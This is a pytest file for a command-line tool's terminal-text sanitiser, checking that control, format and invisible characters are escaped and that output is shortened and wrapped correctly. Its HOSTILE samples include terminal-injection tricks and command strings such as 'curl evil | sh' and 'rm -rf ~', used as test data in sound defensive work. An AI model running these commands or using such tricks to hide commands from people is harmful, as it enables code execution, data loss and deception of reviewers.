"""Text for a terminal."""

from __future__ import annotations

import io
import unicodedata
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.told import call_main
from web4_governance.cli import text

if TYPE_CHECKING:
    from pathlib import Path

    from support.told import Web4
    from support.world import World

HOSTILE = {
    "clears the screen": "\x1b[2J\x1b[H",
    "sets the title": "\x1b]0;owned\x07",
    "one-byte escape": "\x9b31m",
    "hides what follows": "ok\x1b[8m; curl evil | sh",
    "writes over the line": "rm -rf ~\rls        ",
    "forges a row": "ls\n12:00:00 main Bash true allow",
    "reads backwards": "\u202etxt.exe",
    "hides in zero width": "rm\u200b -rf",
    "writes in tags": "ok\U000e0041\U000e0042",
    "looks like a space": "a\u3164b",
    "ends a line": "a\u2028b\u0085c",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_shown_and_not_obeyed(name: str) -> None:
    """No control, format or blank letter reaches the terminal."""
    shown = text.safe(HOSTILE[name])
    assert shown != HOSTILE[name]
    assert "\\" in shown
    assert all(char.isprintable() for char in shown)


@given(st.text())
def test_safe_text_has_no_character_that_a_terminal_obeys(content: str) -> None:
    """For every text: what comes out is printable, and safe text stays as it is."""
    shown = text.safe(content)
    assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for char in shown)
    assert text.safe(shown) == shown


def test_ordinary_text_of_any_script_stays_as_it_is() -> None:
    """Escaping is for what is dangerous, not for what is foreign."""
    for content in ("grün", "日本語", "naïve cafe\u0301", "git commit -m 'ok'", "שלום"):
        assert text.safe(content) == content


def test_marks_do_not_climb_over_other_lines() -> None:
    """A letter keeps a few marks; the rest is written out."""
    assert text.safe("e" + "\u0301" * 9).count("\\u0301") == 6


@given(st.text(), st.integers(min_value=0, max_value=40))
def test_a_shortened_text_fits(content: str, columns: int) -> None:
    """Never wider than asked, wide letters counted as two."""
    assert text.width(text.shorten(text.safe(content), columns)) <= columns
    assert text.width(text.shorten_path(text.safe(content), columns)) <= columns


def test_shortening_says_where_something_is_missing() -> None:
    """A command keeps its beginning, a path its end."""
    assert text.shorten("rm -rf /very/long", 8) == "rm -rf …"
    assert text.shorten_path("/home/dev/project/a.py", 8) == "…ct/a.py"
    assert text.shorten("short", 5) == "short"
    assert text.width(text.shorten("日本語日本語", 5)) == 5
    assert text.pad("日本", 6) == "日本  "


@given(st.text(st.characters(exclude_characters="\n")), st.integers(1, 30))
def test_wrapping_keeps_every_character_and_breaks_at_blanks_alone(content: str, columns: int) -> None:
    """A line is too long only where it is one word."""
    shown = text.safe(content)
    lines = text.wrapped(shown, columns)
    assert " ".join(lines) == shown
    assert [line for line in lines if text.width(line) > columns and " " in line.strip()] == []


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_colour_is_for_terminals_only(monkeypatch: pytest.MonkeyPatch) -> None:
    """A pipe gets none, a terminal does, and `NO_COLOR` or a dumb terminal take it away."""
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    assert text.Paint(io.StringIO())("x", "red") == "x"
    assert text.Paint(Terminal())("x", "red") == "\x1b[31mx\x1b[0m"
    assert text.Paint(Terminal())("x", "") == "x"
    monkeypatch.setenv("NO_COLOR", "1")
    assert text.Paint(Terminal())("x", "red") == "x"
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "dumb")
    assert text.Paint(Terminal())("x", "red") == "x"


def test_the_width_is_the_terminals_and_never_too_small(monkeypatch: pytest.MonkeyPatch) -> None:
    """`COLUMNS` speaks, but a listing needs some room."""
    monkeypatch.setenv("COLUMNS", "132")
    assert text.terminal_width() == 132
    monkeypatch.setenv("COLUMNS", "10")
    assert text.terminal_width() == text.NARROW


@pytest.mark.parametrize(
    "words", [("log", "--session"), ("show",), ("why",), ("verify", "--file"), ("report", "--target", "x", "--since")]
)
def test_an_error_shows_what_it_names_and_does_not_obey_it(web4: Web4, words: tuple[str, ...]) -> None:
    """Words come from elsewhere too: a file's name, a session's id."""
    said = web4(*words, "".join(HOSTILE.values()))
    assert said.code != 0
    assert said.err
    assert all(char == "\n" or char.isprintable() for char in said.err)


@pytest.mark.parametrize("columns", ["78", "80", "120"])
@pytest.mark.parametrize(
    "words",
    [
        *(
            "verify",
            "status",
            "doctor",
            "policy presets",
            "config show",
            "sessions",
            "stats",
            "trust",
            "log",
            "tree aaaa",
        ),
        *("policy show", "policy check", "erase --tool Bash", "lineage main", "policy simulate --preset strict"),
        *("export -o {new}", "export --format csv -o {new}", "report --since 2020-01-01 -o {new}"),
        *("report --help", "export --help", "log --help"),
    ],
)
def test_sentences_are_wrapped_on_a_terminal(
    told: World, monkeypatch: pytest.MonkeyPatch, columns: str, words: str, tmp_path: Path
) -> None:
    """No line is wider than it but for a word that is; in a file or a pipe each stays one line."""
    words = words.format(new=f"{tmp_path}/new")
    monkeypatch.setenv("COLUMNS", columns)
    monkeypatch.setenv("NO_COLOR", "1")
    said = call_main(*words.split(), "--home", str(told.home), person=True)
    wide = [line for line in said.out.splitlines() if text.width(line) > int(columns)]
    # What may be copied stands as it is: a command, a digest, a path.
    assert [line for line in wide if max(map(len, line.split())) < 40] == []
    piped = call_main(*words.split(), "--home", str(told.home))
    assert piped.out.count("\n") <= said.out.count("\n")


def test_a_long_name_keeps_both_ends() -> None:
    """And exactly the columns that it may have."""
    assert text.shorten_name("agent:claude-code/" + "x" * 90 + "/opus", 20) == "agent:clau…xxxx/opus"
    for columns in range(2, 40):
        assert text.width(text.shorten_name("ab漢字" * 20, columns)) <= columns
    assert text.shorten_name("short", 5) == "short"
